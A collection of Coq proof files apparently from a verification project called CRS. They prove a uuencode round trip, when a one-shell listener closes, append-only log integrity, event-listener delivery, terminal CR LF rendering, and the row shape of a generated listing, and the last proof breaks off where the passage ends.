  Lemma ensure_nl_terminated b : ensure_nl b = [] \/ last (ensure_nl b) 0 = 10.
  Proof.
    unfold ensure_nl. destruct b as [|x b]; [left; reflexivity|right].
    destruct (last (x :: b) 0 =? 10) eqn:E; [apply N.eqb_eq; exact E|].
    apply last_last.
  Qed.

End P.
