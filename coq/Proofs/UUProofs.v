(** Proofs about the uuencode model (Model/UU.v). *)
From CRS Require Import Lib.Bytes Lib.Chunks Lib.Sort Lib.Split Model.UU Proofs.UUBits.
Open Scope N_scope.

(** * One group *)
Definition pad3 (c : bytes) : bytes := [nth 0 c 0; nth 1 c 0; nth 2 c 0].

Lemma enc3_pad3 c : enc3 c = enc3 (pad3 c).
Proof. reflexivity. Qed.

Lemma enc3_length c : length (enc3 c) = 4%nat.
Proof. reflexivity. Qed.

Lemma enc3_chars c : Forall (fun x => 33 <= x <= 96) (enc3 c).
Proof.
  unfold enc3. repeat constructor; apply (proj2 (proj2 (w6_facts _))).
Qed.

Lemma enc3_sanit_ok c : find_bad (map sanit (enc3 c)) 0 = None.
Proof.
  unfold enc3. cbn [map find_bad].
  repeat match goal with
  | |- context [sanit (uu_char ?x)] =>
      let H := fresh "H" in
      pose proof (proj1 (proj2 (w6_facts x))) as H;
      generalize dependent (sanit (uu_char x)); intros
  end.
  unfold uuOffset.
  repeat match goal with
  | |- context [(?a <? 32) || (63 + 32 <? ?a)] =>
      replace ((a <? 32) || (63 + 32 <? a)) with false
        by (symmetry; apply orb_false_iff; split; apply N.ltb_ge; lia)
  end.
  reflexivity.
Qed.

Lemma dec4_enc3 a b d : a < 256 -> b < 256 -> d < 256 ->
  dec4 (map sanit (enc3 [a; b; d])) = Some [a; b; d].
Proof.
  intros Ha Hb Hd. unfold enc3. cbn [nth map dec4]. unfold uuOffset.
  rewrite !(proj1 (w6_facts _)).
  change (N.shiftr a 2) with (x0 a).
  change (N.lor (byte_shl a 4) (N.shiftr b 4)) with (x1 a b).
  change (N.lor (byte_shl b 2) (N.shiftr d 6)) with (x2 b d).
  change (N.land d 63) with (x3 d).
  rewrite s0, s1, s2 by assumption. reflexivity.
Qed.

Lemma wf_nth c i : wf_bytes c -> nth i c 0 < 256.
Proof.
  intros H. destruct (nth_in_or_default i c 0) as [Hin | ->]; [|reflexivity].
  unfold wf_bytes in H. rewrite Forall_forall in H. apply H. exact Hin.
Qed.

Lemma dec4_enc3_gen c : wf_bytes c -> dec4 (map sanit (enc3 c)) = Some (pad3 c).
Proof.
  intros H. rewrite enc3_pad3. unfold pad3 at 1.
  apply dec4_enc3; apply wf_nth; exact H.
Qed.

Lemma firstn_pad3 c : (length c <= 3)%nat -> firstn (length c) (pad3 c) = c.
Proof.
  intros H. destruct c as [|a [|b [|d [|e r]]]]; try reflexivity.
  simpl in H. lia.
Qed.

(** * The chunk loop on encoder output *)
Lemma dec_chunks_enc cs : forall off lineN,
  chunked 3 cs -> Forall wf_bytes cs ->
  dec_chunks (map enc3 cs) off (length (concat cs)) lineN = Ok (concat cs).
Proof.
  induction cs as [|c cs IH]; intros off lineN Hch Hwf.
  - reflexivity.
  - inversion Hwf as [|? ? Hc Hcs]; subst.
    cbn [map dec_chunks]. rewrite enc3_sanit_ok, (dec4_enc3_gen c Hc).
    destruct (chunked_inv _ _ _ Hch) as [[-> Hlen] | [Hne [Hlen Hch']]].
    + cbn [concat]. rewrite app_nil_r. rewrite firstn_pad3 by lia.
      rewrite Nat.sub_diag. cbn [map dec_chunks]. rewrite app_nil_r. reflexivity.
    + cbn [concat]. rewrite app_length.
      assert (Hf : firstn (length c + length (concat cs)) (pad3 c) = c).
      { rewrite firstn_all2 by (simpl; lia).
        rewrite <- (firstn_pad3 c) at 2 by lia. rewrite Hlen. reflexivity. }
      rewrite Hf. replace (length c + length (concat cs) - length c)%nat with (length (concat cs)) by lia.
      rewrite IH by assumption. reflexivity.
Qed.

Lemma chunks4_enc3 (cs : list bytes) : chunks 4 (concat (map enc3 cs)) = map enc3 cs.
Proof.
  induction cs as [|c cs IH]; [reflexivity|].
  cbn [map concat]. rewrite (chunks_app_full 4 (enc3 c)); [| lia | apply enc3_length].
  rewrite IH. reflexivity.
Qed.

Lemma length_concat_enc3 (cs : list bytes) : length (concat (map enc3 cs)) = (4 * length cs)%nat.
Proof.
  induction cs as [|c cs IH]; [reflexivity|].
  cbn [map concat length]. rewrite app_length, IH, enc3_length. lia.
Qed.

(** Number of chunks of a line. *)
Lemma chunked3_count (cs : list bytes) : chunked 3 cs ->
  let n := length (concat cs) in
  length cs = (n / 3 + (if (n mod 3 =? 0)%nat then 0 else 1))%nat.
Proof.
  induction 1 as [|a Ha|a cs Ha Hne H IH]; cbv zeta in *.
  - reflexivity.
  - cbn [concat]. rewrite app_nil_r. cbn [length].
    destruct a as [|x [|y [|z [|w r]]]]; simpl in Ha; try lia; reflexivity.
  - cbn [concat length]. rewrite app_length, Ha, IH.
    replace (3 + length (concat cs))%nat with (length (concat cs) + 1 * 3)%nat by lia.
    rewrite Nat.div_add, Nat.mod_add by lia. lia.
Qed.

(** * One line *)
Lemma Forall_concat {A} (P : A -> Prop) (ls : list (list A)) :
  Forall (Forall P) ls -> Forall P (concat ls).
Proof.
  induction 1 as [|l ls Hl Hls IH]; [constructor|].
  cbn [concat]. apply Forall_app. split; assumption.
Qed.

Lemma enc_line_body_chars l :
  Forall (fun x => 33 <= x <= 96) (concat (map enc3 (chunks 3 l))).
Proof.
  apply Forall_concat. rewrite Forall_map. rewrite Forall_forall. intros c _. apply enc3_chars.
Qed.

Lemma Forall_wf_chunks n l : (0 < n)%nat -> wf_bytes l -> Forall wf_bytes (chunks n l).
Proof.
  intros Hn Hwf. destruct (chunks_spec n Hn l) as [_ Hcat].
  rewrite <- Hcat in Hwf. unfold wf_bytes in *.
  revert Hwf. generalize (chunks n l). intros cs. induction cs as [|c cs IH]; intros H.
  - constructor.
  - cbn [concat] in H. apply Forall_app in H as [H1 H2]. constructor; [exact H1 | apply IH; exact H2].
Qed.

Lemma last_app_single {A} (l : list A) x d : last (l ++ [x]) d = x.
Proof. apply last_last. Qed.

Definition line_body (l : bytes) : bytes :=
  (uuOffset + N.of_nat (length l)) :: concat (map enc3 (chunks 3 l)).

Lemma enc_line_split l : enc_line l = line_body l ++ [10].
Proof. reflexivity. Qed.

Lemma line_body_chars l : (0 < length l <= 45)%nat ->
  Forall (fun x => 33 <= x <= 96) (line_body l).
Proof.
  intros H. unfold line_body. constructor; [unfold uuOffset; lia | apply enc_line_body_chars].
Qed.

Lemma last_Forall {A} (P : A -> Prop) (l : list A) d : l <> [] -> Forall P l -> P (last l d).
Proof.
  intros Hne H. destruct (exists_last Hne) as [l' [x ->]]. rewrite last_last.
  apply Forall_app in H as [_ H]. inversion H; assumption.
Qed.

Lemma dec_line_enc lineN l : (0 < length l <= 45)%nat -> wf_bytes l ->
  dec_line lineN (line_body l) = Ok l.
Proof.
  intros Hlen Hwf.
  pose proof (line_body_chars l Hlen) as Hch.
  unfold dec_line.
  assert (Hlast : (last (line_body l) 0 =? 13) = false).
  { apply N.eqb_neq. pose proof (last_Forall _ (line_body l) 0 ltac:(discriminate) Hch) as H.
    cbv beta in H. lia. }
  rewrite Hlast.
  destruct (chunks_spec 3 ltac:(lia) l) as [Hcd Hcat].
  set (cs := chunks 3 l) in *.
  assert (Hbody : length (line_body l) = S (4 * length cs)).
  { unfold line_body. cbn [length]. fold cs. rewrite length_concat_enc3. reflexivity. }
  rewrite Hbody.
  assert (Hland : (Z.land (Z.of_nat (S (4 * length cs)) - 1) 3 =? 0)%Z = true).
  { apply Z.eqb_eq. replace (Z.of_nat (S (4 * length cs)) - 1)%Z with (Z.of_nat (length cs) * 4)%Z by lia.
    change 3%Z with (Z.ones 2). rewrite Z.land_ones by lia. change (2 ^ 2)%Z with 4%Z. apply Z.mod_mul. lia. }
  rewrite Hland. cbn [negb].
  unfold line_body at 1. fold cs.
  assert (Hl0a : (uuOffset + N.of_nat (length l) =? 96) = false).
  { apply N.eqb_neq. unfold uuOffset. lia. }
  assert (Hl0b : (uuOffset + N.of_nat (length l) <? uuOffset) = false).
  { apply N.ltb_ge. lia. }
  rewrite Hl0a, Hl0b. cbn [negb andb].
  replace (N.to_nat (uuOffset + N.of_nat (length l) - uuOffset)) with (length l) by lia.
  assert (Hcnt : enc_len_for (length l) = (4 * length cs)%nat).
  { unfold enc_len_for, decChunkLen, encChunkLen.
    pose proof (chunked3_count cs Hcd) as Hc. cbv zeta in Hc. rewrite Hcat in Hc. rewrite <- Hc. apply Nat.mul_comm. }
  rewrite Hcnt.
  replace (Z.of_nat (4 * length cs) =? Z.of_nat (S (4 * length cs)) - 1)%Z with true
    by (symmetry; apply Z.eqb_eq; lia).
  cbn [negb]. unfold encChunkLen. rewrite chunks4_enc3.
  rewrite <- Hcat at 1. rewrite dec_chunks_enc; [rewrite Hcat; reflexivity | exact Hcd |].
  apply Forall_wf_chunks; [lia | exact Hwf].
Qed.

(** * Splitting encoder output into lines *)
Lemma line_body_no_nl l : (0 < length l <= 45)%nat -> ~ In 10 (line_body l).
Proof.
  intros H Hin. pose proof (line_body_chars l H) as Hc.
  rewrite Forall_forall in Hc. specialize (Hc 10 Hin). lia.
Qed.

Lemma dec_lines_enc (ls : list bytes) : forall lineN,
  Forall (fun l => (0 < length l <= 45)%nat /\ wf_bytes l) ls ->
  dec_lines (split_on 10 (concat (map enc_line ls))) lineN = Ok (concat ls).
Proof.
  induction ls as [|l ls IH]; intros lineN H.
  - reflexivity.
  - inversion H as [|? ? [Hlen Hwf] Hls]; subst.
    cbn [map concat]. rewrite enc_line_split, <- app_assoc. cbn [app].
    rewrite split_on_app_sep by (apply line_body_no_nl; exact Hlen).
    cbn [dec_lines]. unfold line_body at 1.
    fold (line_body l). rewrite dec_line_enc by assumption.
    rewrite IH by assumption. reflexivity.
Qed.

(** * Round trip *)
Theorem decode_encode dst src : wf_bytes src -> decode dst (encode src) = Ok (dst ++ src).
Proof.
  intros Hwf. unfold decode, encode, lineLen.
  destruct (chunks_spec 45 ltac:(lia) src) as [Hcd Hcat].
  rewrite dec_lines_enc.
  - rewrite Hcat. reflexivity.
  - pose proof (chunked_length_le 45 _ ltac:(lia) Hcd) as Hl.
    pose proof (Forall_wf_chunks 45 src ltac:(lia) Hwf) as Hw.
    rewrite Forall_forall in *. intros l Hin. split; [apply Hl | apply Hw]; exact Hin.
Qed.
