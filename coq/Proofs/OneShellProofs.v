(** C12: when the listener closes. *)
From CRS Require Import Lib.Bytes Model.Broker Model.OneShell Proofs.BrokerProofs.
Open Scope N_scope.

Definition is_conn (e : ev) : bool := match e with EConn => true | EDisc => false end.

Lemma closes_iff one evs : existsb closes (flat_map (watch one) evs) = one && existsb is_conn evs.
Proof.
  induction evs as [|e evs IH]; [destruct one; reflexivity|].
  cbn [flat_map]. rewrite existsb_app, IH. destruct e, one; cbn; reflexivity.
Qed.

(** With -one-shell the listener is open exactly as long as no connected event
    has been handled; without it, nothing the watcher does closes it. *)
Theorem listener_open_iff one evs : listener_open one evs = negb (one && existsb is_conn evs).
Proof. unfold listener_open. rewrite closes_iff. reflexivity. Qed.

Corollary never_closed_without_flag evs : listener_open false evs = true.
Proof. rewrite listener_open_iff. reflexivity. Qed.

(** After the shell, no new callbacks are offered under -one-shell; the exit is a success. *)
Lemma no_help_in_one_shell e : ~ In PrintHelp (watch true e).
Proof. destruct e; cbn; intros H; repeat (destruct H as [H|H]; [discriminate|]); exact H. Qed.

Lemma exit_success_after_one_shell : exit_code (Some (serve_result true true)) = 0.
Proof. reflexivity. Qed.
