(** C11: with O_APPEND nothing ever written to the log is lost or damaged, whoever else
    writes, in whatever order; without it a second run destroys the first run's records. *)
From Coq Require Import List NArith Bool String Lia.
From CRS Require Import Lib.Bytes Lib.Split Model.LogFile.
Import ListNotations.
Open Scope N_scope.

Definition opened_of (s : lst) : list N := map fst (l_pos s).

Lemma pos_of_some_iff p ps : (exists n, pos_of p ps = Some n) <-> existsb (N.eqb p) (map fst ps) = true.
Proof.
  induction ps as [|[q n] r IH]; cbn [pos_of map fst existsb].
  - split; [intros [n H]; discriminate | discriminate].
  - rewrite (N.eqb_sym p q). destruct (q =? p); cbn [orb].
    + split; [reflexivity | intros _; exists n; reflexivity].
    + exact IH.
Qed.

Lemma existsb_set_pos p q n ps :
  existsb (N.eqb p) (map fst (set_pos q n ps)) = (p =? q) || existsb (N.eqb p) (map fst ps).
Proof.
  unfold set_pos. cbn [map fst existsb]. case_eq (p =? q); intros E; cbn [orb]; [reflexivity|].
  induction ps as [|[a b] r IH]; [reflexivity|]. cbn [filter fst map existsb].
  case_eq (a =? q); intros Ea; cbn [negb].
  - rewrite IH. apply N.eqb_eq in Ea. subst a. rewrite E. reflexivity.
  - cbn [map fst existsb]. rewrite IH. reflexivity.
Qed.

(** [written] depends on the set of open processes only *)
Lemma written_ext ops : forall o1 o2, (forall p, existsb (N.eqb p) o1 = existsb (N.eqb p) o2) -> written o1 ops = written o2 ops.
Proof.
  induction ops as [|o ops IH]; intros o1 o2 H; [reflexivity|]. destruct o as [p|p r]; cbn [written].
  - apply IH. intros x. cbn [existsb]. rewrite H. reflexivity.
  - rewrite H. destruct (existsb (N.eqb p) o2); [f_equal|]; apply IH; exact H.
Qed.

Theorem append_keeps_everything ops : forall s,
  l_file (lrun MAppend s ops) = l_file s ++ concat (written (opened_of s) ops).
Proof.
  induction ops as [|o ops IH]; intros s; [cbn; rewrite app_nil_r; reflexivity|].
  cbn [lrun fold_left]. fold (lrun MAppend (lstep MAppend s o) ops). rewrite IH. destruct o as [p|p r]; cbn [lstep written].
  - cbn [l_file]. f_equal. f_equal. apply written_ext. intros x. unfold opened_of. cbn [l_pos].
    rewrite existsb_set_pos. cbn [existsb]. reflexivity.
  - case_eq (pos_of p (l_pos s)); [intros n En | intros En].
    + assert (existsb (N.eqb p) (opened_of s) = true) as -> by (apply pos_of_some_iff; exists n; exact En).
      cbn [l_file concat]. rewrite <- app_assoc. f_equal. f_equal. f_equal. apply written_ext. intros x.
      unfold opened_of. cbn [l_pos]. rewrite existsb_set_pos.
      case_eq (x =? p); intros Ex; cbn [orb]; [|reflexivity]. apply N.eqb_eq in Ex. subst x. symmetry.
      apply pos_of_some_iff. exists n. exact En.
    + assert (existsb (N.eqb p) (opened_of s) = false) as ->.
      { case_eq (existsb (N.eqb p) (opened_of s)); intros E; [|reflexivity]. apply pos_of_some_iff in E. destruct E as [n E]. congruence. }
      reflexivity.
Qed.

(** Records are lines (slog's JSON handler escapes newlines inside values): the file, split into
    lines, is the old lines followed by exactly the records written - none lost, none torn, none merged. *)
Theorem append_lines_are_the_records old recs ops :
  Forall (fun r => ~ In 10 r) old -> Forall (fun r => ~ In 10 r) recs ->
  written [] ops = map (fun r => r ++ [10]) recs ->
  split_on 10 (l_file (lrun MAppend (linit (concat (map (fun r => r ++ [10]) old))) ops)) = old ++ recs ++ [[]].
Proof.
  intros Ho Hr Hw. rewrite append_keeps_everything. unfold opened_of, linit. cbn [l_pos l_file map]. rewrite Hw.
  rewrite <- concat_app, <- map_app.
  assert (forall rs, Forall (fun r => ~ In 10 r) rs -> split_on 10 (concat (map (fun r => r ++ [10]) rs)) = rs ++ [[]]) as ST.
  { induction 1 as [|r rs Hr0 Hrs IH]; [reflexivity|].
    cbn [map concat]. rewrite <- app_assoc. cbn [app]. rewrite split_on_app_sep by exact Hr0. rewrite IH. reflexivity. }
  rewrite ST; [rewrite <- app_assoc; reflexivity|]. apply Forall_app. split; assumption.
Qed.

(** Without O_APPEND a second run writes over the first run's records from byte 0. *)
Theorem from_start_refuted :
  exists ops, written [] ops = [[97; 97; 97; 97; 10]; [98; 10]] /\
              split_on 10 (l_file (lrun MFromStart (linit []) ops)) = [[98]; [97; 97]; []].
Proof. exists [LOpen 1; LWrite 1 [97; 97; 97; 97; 10]; LOpen 2; LWrite 2 [98; 10]]. vm_compute. split; reflexivity. Qed.

Theorem trunc_refuted :
  exists ops, written [] ops = [[97; 10]; [98; 10]] /\ l_file (lrun MTrunc (linit []) ops) = [98; 10].
Proof. exists [LOpen 1; LWrite 1 [97; 10]; LOpen 2; LWrite 2 [98; 10]]. vm_compute. split; reflexivity. Qed.

Example flags_example : mode_of_flags ["O_CREATE"; "O_WRONLY"; "O_APPEND"]%string = MAppend /\ mode_of_flags ["O_CREATE"; "O_WRONLY"]%string = MFromStart.
Proof. split; reflexivity. Qed.
Example append_example :
  l_file (lrun MAppend (linit [120; 10]) [LWrite 9 [1]; LOpen 1; LWrite 1 [97; 10]; LOpen 2; LWrite 2 [98; 10]; LWrite 1 [99; 10]]) = [120; 10; 97; 10; 98; 10; 99; 10].
Proof. vm_compute. reflexivity. Qed.
