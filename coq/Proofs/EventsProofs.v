(** C04: every listener gets exactly the events processed while it is registered,
    whatever other listeners do - including there being none at all. *)
From Coq Require Import List NArith Bool Lia.
From CRS Require Import Model.Events.
Import ListNotations.
Open Scope N_scope.

Definition registered (l : N) (s : pst) : bool := existsb (N.eqb l) (p_ls s).

Definition R (l : N) (s : pst) (t : sst) : Prop :=
  p_run s = s_run t /\ p_q s = s_q t /\ registered l s = s_reg t /\ got_of l s = s_got t /\ NoDup (p_ls s).

Lemma existsb_eqb_In l ls : existsb (N.eqb l) ls = true <-> In l ls.
Proof.
  rewrite existsb_exists. split.
  - intros [x [Hx E]]. apply N.eqb_eq in E. subst. exact Hx.
  - intros H. exists l. split; [exact H | apply N.eqb_refl].
Qed.


Lemma nodup_snoc (l : N) ls : NoDup ls -> ~ In l ls -> NoDup (ls ++ [l]).
Proof.
  induction ls as [|x xs IH]; intros H Hn; cbn [app].
  - constructor; [intros [] | constructor].
  - inversion H as [|? ? Hx Hxs]; subst. constructor.
    + rewrite in_app_iff. intros [Hi | [Hi | []]]; [exact (Hx Hi) | subst; apply Hn; left; reflexivity].
    + apply IH; [exact Hxs | intros Hi; apply Hn; right; exact Hi].
Qed.

Lemma add_l_nodup l ls : NoDup ls -> NoDup (add_l l ls).
Proof.
  intros H. unfold add_l. case_eq (existsb (N.eqb l) ls); intros E; [exact H|].
  apply nodup_snoc; [exact H|]. intros Hin. apply existsb_eqb_In in Hin. congruence.
Qed.

Lemma registered_add l k ls : existsb (N.eqb l) (add_l k ls) = (k =? l) || existsb (N.eqb l) ls.
Proof.
  unfold add_l. case_eq (existsb (N.eqb k) ls); intros E.
  - case_eq (k =? l); intros Ek; [|reflexivity]. apply N.eqb_eq in Ek. subst. rewrite E. reflexivity.
  - rewrite existsb_app. cbn [existsb]. rewrite orb_false_r, (N.eqb_sym l k). apply orb_comm.
Qed.

Lemma registered_remove l k ls : existsb (N.eqb l) (remove_l k ls) = negb (k =? l) && existsb (N.eqb l) ls.
Proof.
  unfold remove_l. induction ls as [|x xs IH]; cbn [filter existsb]; [rewrite andb_false_r; reflexivity|].
  case_eq (x =? k); intros Exk; cbn [negb].
  - rewrite IH. apply N.eqb_eq in Exk. subst x. rewrite (N.eqb_sym l k).
    destruct (k =? l); reflexivity.
  - cbn [existsb]. rewrite IH. case_eq (l =? x); intros Elx; cbn [orb]; [|reflexivity].
    apply N.eqb_eq in Elx. subst x. rewrite (N.eqb_sym k l), Exk. reflexivity.
Qed.

(** Telling everybody registered tells [l] exactly once if it is registered, and not at all otherwise. *)
Lemma tell_all l e ls : NoDup ls ->
  map snd (filter (fun p : N * N => fst p =? l) (map (fun k => (k, e)) ls)) = if existsb (N.eqb l) ls then [e] else [].
Proof.
  induction ls as [|x xs IH]; intros H; [reflexivity|].
  inversion H as [|? ? Hx Hxs]; subst. cbn [map filter fst existsb].
  rewrite (N.eqb_sym l x). case_eq (x =? l); intros E; cbn [orb map snd].
  - apply N.eqb_eq in E. subst x. rewrite (IH Hxs).
    case_eq (existsb (N.eqb l) xs); intros El; [|reflexivity]. apply existsb_eqb_In in El. contradiction.
  - exact (IH Hxs).
Qed.

Lemma got_of_app l s extra :
  map snd (filter (fun p : N * N => fst p =? l) (p_got s ++ extra)) = got_of l s ++ map snd (filter (fun p : N * N => fst p =? l) extra).
Proof. unfold got_of. rewrite filter_app, map_app. reflexivity. Qed.

Lemma R_step cap l s t o : R l s t -> R l (pstep cap s o) (sstep cap l t o).
Proof.
  intros (Hr & Hq & Hg & Hgot & Hnd). destruct o as [e| |k|k|]; cbn [pstep sstep].
  - rewrite <- Hq. destruct (Nat.ltb (length (p_q s)) cap); repeat split; cbn; auto.
  - rewrite Hr, Hq. case_eq (s_run t); intros Er; [|repeat split; auto].
    case_eq (s_q t); [intros Eq | intros e r Eq]; [repeat split; auto|].
    repeat split; cbn [p_run p_q p_ls p_got s_run s_q s_reg s_got]; auto.
    unfold got_of. cbn [p_got]. rewrite got_of_app, (tell_all l e _ Hnd). unfold registered in Hg. rewrite Hg, Hgot. reflexivity.
  - unfold R, registered in *. case_eq (k =? l); intros E; repeat split; cbn [p_run p_q p_ls p_got s_run s_q s_reg s_got]; auto;
      try (apply add_l_nodup; exact Hnd); rewrite registered_add, E; cbn [orb]; auto.
  - unfold R, registered in *. case_eq (k =? l); intros E; repeat split; cbn [p_run p_q p_ls p_got s_run s_q s_reg s_got]; auto;
      try (apply NoDup_filter; exact Hnd); rewrite registered_remove, E; cbn [negb andb]; auto.
  - repeat split; cbn; auto.
Qed.

Lemma R_init l : R l pinit sinit.
Proof. repeat split; cbn; auto. constructor. Qed.

Lemma R_run cap l ops : forall s t, R l s t -> R l (prun cap s ops) (srun cap l t ops).
Proof.
  induction ops as [|o ops IH]; intros s t H; [exact H|]. cbn [prun srun fold_left]. apply IH. apply R_step. exact H.
Qed.

(** The pump refines the one-listener specification: what [l] receives does not depend on which
    other listeners exist, come or go - in particular not on there having been none at all. *)
Theorem pump_refines cap l ops : got_of l (prun cap pinit ops) = s_got (srun cap l sinit ops).
Proof. destruct (R_run cap l ops _ _ (R_init l)) as (_ & _ & _ & H & _). exact H. Qed.

Definition about_other (l : N) (o : pop) : bool :=
  match o with PAdd k | PRemove k => negb (k =? l) | _ => false end.

Lemma sstep_other cap l t o : about_other l o = true -> sstep cap l t o = t.
Proof. destruct o as [e| |k|k|]; cbn; try discriminate; intros H; apply negb_true_iff in H; rewrite H; reflexivity. Qed.

Lemma srun_filter cap l ops : forall t, srun cap l t ops = srun cap l t (filter (fun o => negb (about_other l o)) ops).
Proof.
  induction ops as [|o ops IH]; intros t; [reflexivity|]. cbn [filter]. case_eq (about_other l o); intros E; cbn [negb].
  - cbn [srun fold_left]. rewrite (sstep_other _ _ _ _ E). apply IH.
  - cbn [srun fold_left]. apply IH.
Qed.

Theorem others_do_not_matter cap l ops :
  got_of l (prun cap pinit ops) = got_of l (prun cap pinit (filter (fun o => negb (about_other l o)) ops)).
Proof. rewrite !pump_refines. rewrite <- srun_filter. reflexivity. Qed.

(** Only the end of Do stops the pump. *)
Theorem pump_keeps_running cap ops : ~ In PStop ops -> p_run (prun cap pinit ops) = true.
Proof.
  assert (forall s, p_run s = true -> ~ In PStop ops -> p_run (prun cap s ops) = true) as G.
  { induction ops as [|o ops IH]; intros s Hs Hn; [exact Hs|]. cbn [prun fold_left]. apply IH.
    - destruct o as [e| |k|k|]; cbn [pstep]; try exact Hs.
      + destruct (Nat.ltb _ _); exact Hs.
      + rewrite Hs. destruct (p_q s); [exact Hs | reflexivity].
      + exfalso. apply Hn. left. reflexivity.
    - intros Hi. apply Hn. right. exact Hi. }
  intros H. apply G; [reflexivity | exact H].
Qed.

(** A running pump empties the channel: a broker waiting to announce something (full channel) gets its turn. *)
Theorem pump_drains cap s : p_run s = true -> p_q (prun cap s (repeat PProc (length (p_q s)))) = [].
Proof.
  remember (length (p_q s)) as n eqn:En. revert s En. induction n as [|n IH]; intros s En Hs.
  - cbn. destruct (p_q s); [reflexivity | discriminate].
  - cbn [repeat prun fold_left]. destruct (p_q s) as [|e r] eqn:Eq; [discriminate|].
    apply (IH (pstep cap s PProc)); cbn [pstep]; rewrite Hs, Eq; cbn; [injection En; auto | reflexivity].
Qed.

(** The lazy pump is wrong: one event while nobody listens and a later listener hears nothing. *)
Theorem lazy_pump_refuted :
  exists ops l, got_of l (fold_left (pstep_lazy 1024) ops pinit) <> s_got (srun 1024 l sinit ops).
Proof. exists [PEmit 0; PProc; PAdd 7; PEmit 1; PProc], 7. vm_compute. discriminate. Qed.

Example windows_example : plan_windows 1024 [2; 0; 600] = [[0; 1]; [0; 1]; [0; 1]].
Proof. vm_compute. reflexivity. Qed.
