From CRS Require Import Lib.Bytes Model.Terminal.

Open Scope N_scope.

Lemma crlf_app a b : crlf (a ++ b) = crlf a ++ crlf b.
Proof. induction a as [|c a IH]; [reflexivity|]. cbn [app crlf]. rewrite IH. destruct (c =? 10); reflexivity. Qed.

Lemma shown_is_concat chunks : shown chunks = crlf (concat chunks).
Proof. unfold shown. induction chunks as [|c r IH]; [reflexivity|]. cbn [map concat]. rewrite IH, crlf_app. reflexivity. Qed.

(** the CR LF rendering loses nothing *)
Lemma uncrlf_crlf s : uncrlf (crlf s) = s.
Proof.
  induction s as [|c r IH]; [reflexivity|].
  cbn [crlf]. destruct (N.eqb_spec c 10) as [->|H].
  - cbn [uncrlf]. cbn. rewrite IH. reflexivity.
  - destruct r as [|d r']; [reflexivity|].
    cbn [crlf] in *. destruct (N.eqb_spec d 10) as [->|Hd].
    + (* c, then CR LF *)
      change (uncrlf (c :: 13 :: 10 :: crlf r')) with (if (c =? 13) && (13 =? 10) then 10 :: uncrlf (10 :: crlf r') else c :: uncrlf (13 :: 10 :: crlf r')).
      rewrite andb_false_r. rewrite IH. reflexivity.
    + change (uncrlf (c :: d :: crlf r')) with (if (c =? 13) && (d =? 10) then 10 :: uncrlf (crlf r') else c :: uncrlf (d :: crlf r')).
      destruct (N.eqb_spec d 10); [contradiction|]. rewrite andb_false_r, IH. reflexivity.
Qed.

Lemma concat_cut sizes : forall s, concat (cut sizes s) = s.
Proof.
  induction sizes as [|n r IH]; intros s; cbn [cut concat].
  - apply app_nil_r.
  - rewrite IH. apply firstn_skipn.
Qed.

(** However the transport cuts the bytes into reads, the terminal shows the bytes. *)
Lemma shown_cut sizes s : shown (cut sizes s) = crlf s.
Proof. rewrite shown_is_concat, concat_cut. reflexivity. Qed.
Lemma shown_cut_exact sizes s : uncrlf (shown (cut sizes s)) = s.
Proof. rewrite shown_cut. apply uncrlf_crlf. Qed.

Lemma shown_prefix a b : exists t, shown (a ++ b) = shown a ++ t.
Proof. exists (shown b). unfold shown. rewrite map_app, concat_app. reflexivity. Qed.
