(** C18: what the rows of the generated listing ARE - for every payload. *)
From CRS Require Import Lib.Bytes Lib.Utf8 Lib.Sort Lib.Split Lib.ShLex Model.FuncList Proofs.SortProofs.
Require Import Sorted.
Open Scope N_scope.

(** trimming and cutting only remove bytes *)
Lemma In_skipn_in {A} (x : A) n l : In x (skipn n l) -> In x l.
Proof. intros H. rewrite <- (firstn_skipn n l). apply in_or_app. right. exact H. Qed.
Lemma trim_left_fuel_sub f : forall l x, In x (trim_left_fuel f l) -> In x l.
Proof.
  induction f as [|f IH]; intros l x H; [exact H|]. cbn [trim_left_fuel] in H.
  destruct (lead_space l); [exact H|]. apply IH in H. eapply In_skipn_in; exact H.
Qed.
Lemma trim_left_rev_fuel_sub f : forall l x, In x (trim_left_rev_fuel f l) -> In x l.
Proof.
  induction f as [|f IH]; intros l x H; [exact H|]. cbn [trim_left_rev_fuel] in H.
  destruct (lead_space_rev l); [exact H|]. apply IH in H. eapply In_skipn_in; exact H.
Qed.
Lemma frev_rev l : frev l = rev l.
Proof. unfold frev. rewrite rev_append_rev. apply app_nil_r. Qed.
Lemma trim_space_sub l x : In x (trim_space l) -> In x l.
Proof.
  unfold trim_space, trim_right, trim_left. rewrite !frev_rev. intros H.
  apply in_rev in H. apply trim_left_rev_fuel_sub in H. apply in_rev in H.
  apply trim_left_fuel_sub in H. exact H.
Qed.
Lemma cut_space_sub l : forall x, (In x (fst (cut_space l)) -> In x l) /\ (In x (snd (cut_space l)) -> In x l).
Proof.
  induction l as [|y r IH]; intros x; cbn [cut_space]; [split; intros []|].
  destruct (y =? 32).
  - cbn. split; [intros [] | intros H; right; exact H].
  - destruct (cut_space r) as [a b] eqn:E. cbn. destruct (IH x) as [I1 I2]. cbn in I1, I2. split.
    + intros [H|H]; [left; exact H | right; apply I1; exact H].
    + intros H. right. apply I2. exact H.
Qed.

(** a documented cell contains no newline, and its description part starts with "- " *)
Lemma doc_cell_shape line c : ~ In 10 line -> doc_cell line = Some c ->
  ~ In 10 (fst c) /\ ~ In 10 (snd c) /\ exists d, snd c = 45 :: 32 :: d.
Proof.
  unfold doc_cell. intros Hn. destruct (bprefix DocPrefix line); [|discriminate].
  set (t := trim_space (skipn (length DocPrefix) line)).
  assert (Ht : ~ In 10 t).
  { intros H. apply trim_space_sub, In_skipn_in in H. exact (Hn H). }
  destruct t as [|t0 t'] eqn:Et; [discriminate|]. rewrite <- Et in *. clear Et.
  destruct (cut_space t) as [name desc] eqn:Ec. intros H. inversion H; subst c. cbn [fst snd].
  pose proof (cut_space_sub t 10) as [C1 C2]. rewrite Ec in C1, C2. cbn in C1, C2.
  repeat split.
  - intros Hi. apply trim_space_sub in Hi. exact (Ht (C1 Hi)).
  - intros [Hi|[Hi|Hi]]; try discriminate. apply trim_space_sub in Hi. exact (Ht (C2 Hi)).
  - eexists. reflexivity.
Qed.

Lemma filter_map_In {A B} (f : A -> option B) l y : In y (filter_map f l) -> exists x, In x l /\ f x = Some y.
Proof.
  induction l as [|x l IH]; [intros []|]. cbn [filter_map]. destruct (f x) eqn:E.
  - intros [H|H]; [subst; exists x; split; [left; reflexivity | exact E]|].
    destruct (IH H) as [x' [H1 H2]]. exists x'. split; [right; exact H1 | exact H2].
